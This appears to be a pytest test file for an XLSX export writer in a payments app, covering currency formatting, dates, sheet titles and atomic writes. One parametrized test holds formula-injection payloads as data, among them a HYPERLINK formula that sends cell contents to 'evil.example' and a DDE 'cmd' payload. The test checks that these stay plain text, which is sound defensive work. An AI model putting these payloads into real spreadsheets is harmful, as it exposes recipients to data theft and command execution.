"""XLSX tables: written by the exchange writer, read back with openpyxl like Excel would."""

from __future__ import annotations

import io
import os
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from clickpay_desk.core.money import Money
from clickpay_desk.exchange.sheet import (
    Column,
    ExportError,
    Kind,
    SheetSpec,
    money_format,
    write_table,
    write_xlsx,
)

RIYADH = timezone(timedelta(hours=3), "AST")

COLUMNS = [
    Column("Reference"),
    Column("Currency"),
    Column("Amount", Kind.MONEY, currency_of=1),
    Column("Count", Kind.INTEGER),
    Column("Paid", Kind.BOOLEAN),
    Column("Day", Kind.DATE),
    Column("At", Kind.DATETIME),
]

ROWS: list[tuple[object, ...]] = [
    (
        "cart-1",
        "SAR",
        Decimal("1234.5"),
        3,
        True,
        date(2024, 3, 1),
        datetime(2024, 3, 1, 21, 30, tzinfo=UTC),
    ),
    (
        "cart-2",
        "KWD",
        Decimal("1.25"),
        1,
        False,
        date(2024, 3, 2),
        datetime(2024, 3, 2, 8, 0, 5, 999, tzinfo=UTC),
    ),
    ("cart-3", "JPY", 1500, 0, None, None, None),
    ("cart-4", "SAR", Decimal("-5"), None, False, datetime(2024, 12, 31, 22, 0, tzinfo=UTC), None),
]


def read(path: Path, title: str | None = None) -> Worksheet:
    workbook = load_workbook(path)
    return workbook[title] if title else workbook.worksheets[0]


def sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return "".join(
            archive.read(name).decode("utf-8")
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )


@pytest.fixture
def table(tmp_path: Path) -> Worksheet:
    path = write_xlsx(tmp_path / "table.xlsx", [SheetSpec("Payments", COLUMNS, ROWS)], tz=RIYADH)
    return read(path, "Payments")


def test_amounts_are_numbers_with_exactly_their_currency_decimals(table: Worksheet) -> None:
    amounts = [table.cell(row=r, column=3) for r in range(2, 6)]
    assert [c.data_type for c in amounts] == ["n"] * 4
    assert [Decimal(str(c.value)) for c in amounts] == [
        Decimal("1234.50"),
        Decimal("1.250"),
        Decimal("1500"),
        Decimal("-5.00"),
    ]
    assert [c.number_format for c in amounts] == ["#,##0.00", "#,##0.000", "#,##0", "#,##0.00"]


def test_money_values_carry_their_own_currency(tmp_path: Path) -> None:
    columns = [Column("Amount", Kind.MONEY)]
    rows = [(Money(Decimal("9.5"), "KWD"),), (Money(Decimal("-0.001"), "SAR"),)]
    ws = read(write_xlsx(tmp_path / "m.xlsx", [SheetSpec("M", columns, rows)]))
    assert Decimal(str(ws["A2"].value)) == Decimal("9.500")
    assert ws["A2"].number_format == "#,##0.000"
    assert ws["A3"].value == 0  # rounds to 0.00, never "-0.00"
    assert ws["A3"].number_format == "#,##0.00"


def test_amounts_are_rounded_half_up_to_the_currency(tmp_path: Path) -> None:
    columns = [Column("Amount", Kind.MONEY, currency_of="SAR")]
    ws = read(write_xlsx(tmp_path / "r.xlsx", [SheetSpec("R", columns, [(Decimal("2.345"),)])]))
    assert Decimal(str(ws["A2"].value)) == Decimal("2.35")


def test_large_amounts_keep_every_digit(tmp_path: Path) -> None:
    columns = [Column("Amount", Kind.MONEY, currency_of="KWD")]
    rows = [(Decimal("9999999999.999"),), (Decimal("1234567890123456.789"),)]
    ws = read(write_xlsx(tmp_path / "big.xlsx", [SheetSpec("B", columns, rows)]))
    assert ws["A2"].data_type == "n"
    assert Decimal(str(ws["A2"].value)) == Decimal("9999999999.999")
    # Past Excel's 15 significant digits a number would be silently changed: written as text.
    assert ws["A3"].data_type == "s"
    assert ws["A3"].value == "1234567890123456.789"


def test_integers_and_booleans_are_typed(table: Worksheet) -> None:
    assert [table.cell(row=r, column=4).value for r in range(2, 6)] == [3, 1, 0, None]
    assert table["D2"].data_type == "n"
    assert [table.cell(row=r, column=5).value for r in range(2, 6)] == [True, False, None, False]
    assert table["E2"].data_type == "b"


def test_dates_are_real_dates(table: Worksheet) -> None:
    assert table["F2"].is_date and table["F2"].number_format == "yyyy-mm-dd"
    assert table["F2"].value == datetime(2024, 3, 1)
    # An aware datetime in a date column: the day it is in the chosen zone (22:00Z is 01:00 AST).
    assert table["F5"].value == datetime(2025, 1, 1)
    assert table["F4"].value is None


def test_datetimes_are_converted_to_the_chosen_zone_and_written_naive(table: Worksheet) -> None:
    assert table["G2"].is_date and table["G2"].number_format == "yyyy-mm-dd hh:mm:ss"
    assert table["G2"].value == datetime(2024, 3, 2, 0, 30)
    assert table["G3"].value == datetime(2024, 3, 2, 11, 0, 5)  # to the second


def test_datetimes_default_to_the_local_zone(tmp_path: Path) -> None:
    moment = datetime(2024, 6, 1, 12, 0, tzinfo=UTC)
    ws = read(
        write_xlsx(
            tmp_path / "l.xlsx", [SheetSpec("L", [Column("At", Kind.DATETIME)], [(moment,)])]
        )
    )
    assert ws["A2"].value == moment.astimezone().replace(tzinfo=None)


def test_header_is_bold_frozen_and_filtered(table: Worksheet) -> None:
    assert [c.value for c in table[1]] == [c.heading for c in COLUMNS]
    assert all(c.font.b for c in table[1])
    assert table.freeze_panes == "A2"
    assert table.auto_filter.ref == "A1:G5"


def test_empty_table_still_has_header_and_filter(tmp_path: Path) -> None:
    ws = read(write_xlsx(tmp_path / "e.xlsx", [SheetSpec("E", COLUMNS, [])]))
    assert ws.max_row == 1
    assert ws.auto_filter.ref == "A1:G1"


def test_column_widths_follow_content_and_are_capped(tmp_path: Path) -> None:
    columns = [
        Column("Note"),
        Column("Amount", Kind.MONEY, currency_of="SAR"),
        Column("Id", width=30),
    ]
    rows = [("x" * 500, Decimal("1234567.5"), "a"), ("short", Decimal("1"), "b")]
    ws = read(write_xlsx(tmp_path / "w.xlsx", [SheetSpec("W", columns, rows)]))
    assert ws.column_dimensions["A"].width == 60  # capped
    assert len("1,234,567.50") <= ws.column_dimensions["B"].width < 30
    assert ws.column_dimensions["C"].width == 30  # as asked


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "=cmd|' /C calc'!A0",
        "+966501234567",
        "-5",
        "@SUM(A1:A9)",
        "\t=1+2",
        "#N/A",
        "=",
    ],
)
def test_formula_like_text_stays_text(tmp_path: Path, text: str) -> None:
    path = write_xlsx(tmp_path / "f.xlsx", [SheetSpec("F", [Column("Name")], [(text,)])])
    cell = read(path)["A2"]
    assert cell.data_type == "s"
    assert cell.value == text
    assert "<f>" not in sheet_xml(path)  # no formula anywhere in the file


def test_carriage_returns_become_excel_line_breaks(tmp_path: Path) -> None:
    rows = [("\r=1+2",), ("line 1\r\nline 2",)]
    ws = read(write_xlsx(tmp_path / "cr.xlsx", [SheetSpec("C", [Column("Note")], rows)]))
    assert (ws["A2"].data_type, ws["A2"].value) == ("s", "\n=1+2")
    assert ws["A3"].value == "line 1\nline 2"


def test_headings_are_text_too(tmp_path: Path) -> None:
    ws = read(write_xlsx(tmp_path / "h.xlsx", [SheetSpec("H", [Column("=Total")], [])]))
    assert (ws["A1"].data_type, ws["A1"].value) == ("s", "=Total")


def test_arabic_text_and_titles_round_trip(tmp_path: Path) -> None:
    text = "فاتورة رقم ١٢٣ — شركة الرياض"
    path = write_xlsx(tmp_path / "ar.xlsx", [SheetSpec("الدفعات", [Column("الوصف")], [(text,)])])
    ws = read(path, "الدفعات")
    assert ws["A1"].value == "الوصف"
    assert ws["A2"].value == text


def test_control_characters_do_not_break_the_file(tmp_path: Path) -> None:
    ws = read(
        write_xlsx(tmp_path / "c.xlsx", [SheetSpec("C", [Column("Note")], [("a\x00b\x1bc",)])])
    )
    assert ws["A2"].value == "a\ufffdb\ufffdc"


def test_several_sheets_with_awkward_titles(tmp_path: Path) -> None:
    specs = [
        SheetSpec("Batch 7/2024: [draft]?", [Column("A")], [("x",)]),
        SheetSpec("batch 7_2024_ _draft__", [Column("A")], [("y",)]),
        SheetSpec("A very long sheet title that Excel would refuse", [Column("A")], []),
    ]
    workbook = load_workbook(write_xlsx(tmp_path / "s.xlsx", specs))
    titles = workbook.sheetnames
    assert titles[0] == "Batch 7_2024_ _draft__"
    assert titles[1] == "batch 7_2024_ _draft__ (2)"
    assert len(titles[2]) == 31
    assert workbook[titles[1]]["A2"].value == "y"


def test_floats_are_refused_naming_the_row_and_column(tmp_path: Path) -> None:
    columns = [Column("Amount", Kind.MONEY, currency_of="SAR")]
    with pytest.raises(ExportError, match=r"row 2, “Amount”: floats are never exported"):
        write_xlsx(tmp_path / "x.xlsx", [SheetSpec("S", columns, [(Decimal(1),), (1.5,)])])
    assert not (tmp_path / "x.xlsx").exists()


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        (Column("Amount", Kind.MONEY), Decimal(1), "no currency"),
        (Column("Amount", Kind.MONEY, currency_of="SAR"), "12.50", "expected an amount"),
        (Column("Count", Kind.INTEGER), Decimal("1.5"), "whole number"),
        (Column("Count", Kind.INTEGER), True, "whole number"),
        (Column("Day", Kind.DATE), "2024-01-01", "expected a date"),
        (Column("Paid", Kind.BOOLEAN), 1, "True or False"),
    ],
)
def test_values_that_do_not_fit_their_column_are_refused(
    tmp_path: Path, column: Column, value: object, message: str
) -> None:
    with pytest.raises(ExportError, match=message):
        write_xlsx(tmp_path / "x.xlsx", [SheetSpec("S", [column], [(value,)])])


def test_unknown_currency_is_refused(tmp_path: Path) -> None:
    columns = [Column("Currency"), Column("Amount", Kind.MONEY, currency_of=0)]
    with pytest.raises(ExportError, match="ISO 4217"):
        write_xlsx(tmp_path / "x.xlsx", [SheetSpec("S", columns, [("XYZ", Decimal(1))])])
    with pytest.raises(ValueError, match="currency"):
        Column("Amount", Kind.MONEY, currency_of="XYZ")
    with pytest.raises(ValueError, match="not a column index"):
        SheetSpec("S", [Column("Amount", Kind.MONEY, currency_of=3)])


def test_money_format_per_iso_4217() -> None:
    assert money_format("SAR") == "#,##0.00"
    assert money_format("KWD") == "#,##0.000"
    assert money_format("IQD") == "#,##0.000"  # ISO says 3, CLDR says 0
    assert money_format("JPY") == "#,##0"


def test_write_table_chooses_format_by_suffix(tmp_path: Path) -> None:
    spec = SheetSpec("T", [Column("A")], [("x",)])
    assert read(write_table(tmp_path / "t.XLSX", spec))["A2"].value == "x"
    with pytest.raises(ValueError, match=r"\.xlsx or \.csv"):
        write_table(tmp_path / "t.ods", spec)


# --- atomic writes ----------------------------------------------------------------------------


def _rows_then_crash() -> Iterator[tuple[object, ...]]:
    yield ("new row",)
    raise RuntimeError("disk gremlin")


def test_failure_while_reading_rows_leaves_the_old_file(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "out.xlsx", [SheetSpec("T", [Column("A")], [("old",)])])
    before = path.read_bytes()
    with pytest.raises(RuntimeError, match="gremlin"):
        write_xlsx(path, [SheetSpec("T", [Column("A")], _rows_then_crash())])
    assert path.read_bytes() == before
    assert read(path)["A2"].value == "old"
    assert os.listdir(tmp_path) == ["out.xlsx"]  # no temporary file left behind


def test_failure_while_saving_leaves_the_old_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = write_xlsx(tmp_path / "out.xlsx", [SheetSpec("T", [Column("A")], [("old",)])])
    before = path.read_bytes()
    real_save = Workbook.save

    def half_written(self: object, fh: object) -> None:
        real_save(self, io.BytesIO())  # the real work, elsewhere; then the disk fills up
        fh.write(b"PK\x03\x04 half a zip")  # type: ignore[attr-defined]
        raise OSError("No space left on device")

    monkeypatch.setattr(Workbook, "save", half_written)
    with pytest.raises(OSError, match="No space"):
        write_xlsx(path, [SheetSpec("T", [Column("A")], [("new",)])])
    assert path.read_bytes() == before
    assert os.listdir(tmp_path) == ["out.xlsx"]


@pytest.mark.skipif(os.name != "posix", reason="POSIX permissions")
def test_new_files_get_the_usual_permissions(tmp_path: Path) -> None:
    old = os.umask(0o022)
    try:
        path = write_xlsx(tmp_path / "p.xlsx", [SheetSpec("T", [Column("A")], [])])
    finally:
        os.umask(old)
    assert path.stat().st_mode & 0o777 == 0o644
